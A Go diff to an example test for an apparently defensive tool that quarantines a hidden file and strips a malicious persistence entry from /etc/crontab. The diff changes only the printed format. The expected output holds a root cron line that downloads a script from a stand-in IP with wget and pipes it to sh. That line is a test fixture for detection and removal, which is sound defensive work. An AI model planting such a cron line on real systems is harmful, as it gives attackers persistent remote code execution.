@@ -61,7 +61,11 @@ func ExampleApply() {
 		log.Fatal(err)
 	}
 	for _, c := range plan.Changes {
-		fmt.Println(c.Op, c.Path, c.Lines)
+		fmt.Print(c.Op, " ", c.Path)
+		for _, l := range c.Lines {
+			fmt.Printf(" [line %d: %s]", l.Line, l.Content)
+		}
+		fmt.Println()
 	}
 	res, err := persist.Apply(ctx, plan, persist.ApplyOptions{QuarantineDir: quarantine})
 	if err != nil {
@@ -77,8 +81,8 @@ func ExampleApply() {
 	crontab, _ = os.ReadFile(root + "/etc/crontab")
 	fmt.Println("after restore:", strings.Contains(string(crontab), "203.0.113.7"))
 	// Output:
-	// quarantine /tmp/.X11-unix/.work32 []
-	// remove-lines /etc/crontab [{24 * * * * * root wget -q -O - http://203.0.113.7/y.sh | sh}]
+	// quarantine /tmp/.X11-unix/.work32
+	// remove-lines /etc/crontab [line 24: * * * * * root wget -q -O - http://203.0.113.7/y.sh | sh]
 	// bad line still there: false
 	// after restore: true
 }
